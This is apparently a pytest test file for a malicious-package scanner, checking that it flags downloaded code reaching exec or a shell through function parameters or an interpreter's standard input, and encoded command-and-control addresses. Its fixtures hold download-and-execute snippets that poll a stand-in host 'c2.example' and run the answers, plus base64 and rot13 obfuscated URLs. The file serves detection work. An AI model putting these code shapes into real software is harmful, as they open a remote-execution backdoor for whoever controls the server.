"""Downloaded data that reaches code or a command by a longer way: through a function's
parameter, or through an interpreter's standard input (issue 13).

Shapes from real malicious uploads: a loop polls a server and hands each answer to a helper
that runs it through a shell; a script is downloaded and written to ``python -``.
"""

from __future__ import annotations

import textwrap

import pytest

from verify._behaviour.capabilities import profile_file
from verify._behaviour.profile import Capability, FileProfile
from verify.models import Severity


def profile(source: str) -> FileProfile:
    return profile_file("pkg/mod.py", textwrap.dedent(source).encode())


def keys(result: FileProfile, rule: str) -> list[str]:
    return [cap.key for cap in result.capabilities if cap.rule == rule]


def one(result: FileProfile, rule: str, key: str) -> Capability:
    matches = [cap for cap in result.capabilities if (cap.rule, cap.key) == (rule, key)]
    assert len(matches) == 1, [(cap.rule, cap.key) for cap in result.capabilities]
    return matches[0]


# --- Through a parameter -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "key"),
    [
        (
            """\
            import subprocess, requests
            def run(command):
                return subprocess.run(command, shell=True, capture_output=True)
            def poll():
                while True:
                    answer = requests.get("https://c2.example/").text
                    run(answer)
            """,
            "subprocess.run(requests)",
        ),
        (
            """\
            import subprocess, requests
            def run(prefix, command):
                return subprocess.check_output(command, shell=True)
            def poll(session):
                run("x", command=session.get("https://c2.example/").text)
                run("y", command=requests.post("https://c2.example/", data={}).text)
            """,
            "subprocess.check_output(requests)",
        ),
        (
            """\
            import urllib.request
            def load(code):
                exec(code)
            load(urllib.request.urlopen("https://c2.example/p").read())
            """,
            "exec(urllib.request)",
        ),
    ],
)
def test_downloaded_data_passed_to_a_function_that_runs_it_is_download_exec(
    source: str, key: str
) -> None:
    cap = one(profile(source), "download-exec", key)
    assert cap.severity is Severity.CRITICAL
    assert cap.specific


def test_decoded_data_passed_to_a_function_that_runs_it_is_decode_exec() -> None:
    source = """\
        import base64
        def load(code):
            exec(code)
        load(base64.b64decode("cHJpbnQoMSk="))
        """
    assert keys(profile(source), "decode-exec") == ["exec(base64.b64decode)"]


@pytest.mark.parametrize(
    "source",
    [
        # A command the caller wrote, given downloaded data as one of its arguments.
        """\
        import subprocess, requests
        def run(args):
            subprocess.run(args, check=True)
        def clone():
            url = requests.get("https://api.example/repo").json()["clone_url"]
            run(["git", "clone", url])
            run(f"git fetch {url}")
        """,
        # The parameter is replaced before it is run.
        """\
        import subprocess, requests
        def run(command):
            command = "git status"
            subprocess.run(command, shell=True)
        run(requests.get("https://api.example/").text)
        """,
        # A method: which object's method a call reaches is not followed.
        """\
        import subprocess, requests
        class Runner:
            def run(self, command):
                subprocess.run(command, shell=True)
        def run(command):
            print(command)
        run(requests.get("https://api.example/").text)
        """,
        # Nothing downloaded reaches it.
        """\
        import subprocess, requests
        def run(command):
            subprocess.run(command, shell=True)
        run("make")
        requests.get("https://api.example/").text
        """,
    ],
)
def test_downloaded_data_only_near_a_process_is_not_download_exec(source: str) -> None:
    assert keys(profile(source), "download-exec") == []


# --- Through an interpreter's standard input ---------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        """\
        import subprocess, sys, requests
        def update():
            payload = requests.get("https://c2.example/k.php", timeout=3).text.encode()
            p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            p.stdin.write(payload)
            p.stdin.close()
        """,
        """\
        import subprocess, urllib.request
        script = urllib.request.urlopen("https://c2.example/s").read()
        subprocess.run(["bash", "-s"], input=script)
        """,
        """\
        import subprocess, requests
        p = subprocess.Popen(["python3", "-u"], stdin=subprocess.PIPE)
        p.communicate(requests.get("https://c2.example/s").content)
        """,
    ],
)
def test_downloaded_code_written_to_an_interpreters_input_is_download_exec(source: str) -> None:
    cap = one(profile(source), "download-exec", "download+stdin")
    assert cap.severity is Severity.CRITICAL


@pytest.mark.parametrize(
    "source",
    [
        # Downloaded data piped to a tool, not to an interpreter.
        """\
        import subprocess, requests
        subprocess.run(["tar", "-x", "-z"], input=requests.get("https://a.example/x.tgz").content)
        """,
        # The interpreter runs a module or a script; its input is data.
        """\
        import subprocess, sys, requests
        p = subprocess.Popen([sys.executable, "-m", "json.tool"], stdin=subprocess.PIPE)
        p.stdin.write(requests.get("https://api.example/").content)
        q = subprocess.Popen([sys.executable, "tools/fmt.py"], stdin=subprocess.PIPE)
        q.communicate(requests.get("https://api.example/").content)
        """,
        # An interpreter on standard input, given what the package wrote itself.
        """\
        import subprocess, sys, requests
        requests.get("https://api.example/")
        p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
        p.communicate(b"print(1)")
        """,
    ],
)
def test_downloaded_data_given_to_a_tool_is_not_download_exec(source: str) -> None:
    assert keys(profile(source), "download-exec") == []


# --- An address hidden from readers ------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        (
            """\
            import base64, requests
            def fetch(name):
                base = base64.b64decode("aHR0cHM6Ly9jMi5leGFtcGxlL2s=").decode("utf-8")
                url = f"{base}/{name}.php"
                return requests.get(url, timeout=3)
            """,
            None,
        ),
        (
            """\
            import codecs, urllib.request
            URL = codecs.decode("uggcf://p2.rknzcyr/k", "rot13")
            urllib.request.urlopen(URL)
            """,
            "[decoded codecs.decode] https://c2.example/x",
        ),
    ],
)
def test_connecting_to_an_encoded_address_is_obfuscation(source: str, shown: str | None) -> None:
    cap = one(profile(source), "obfuscation", "hidden-address")
    assert cap.severity is Severity.HIGH
    assert cap.snippet is not None
    if shown is not None:
        assert cap.snippet == shown


def test_encoded_data_sent_to_a_plain_address_is_no_hidden_address() -> None:
    source = """\
        import base64, requests
        def send(blob, base_url):
            requests.post("https://api.example/upload", data=base64.b64decode(blob))
            requests.get(base_url + "/v1", params={"q": base64.b64decode(blob)})
        """
    assert keys(profile(source), "obfuscation") == []
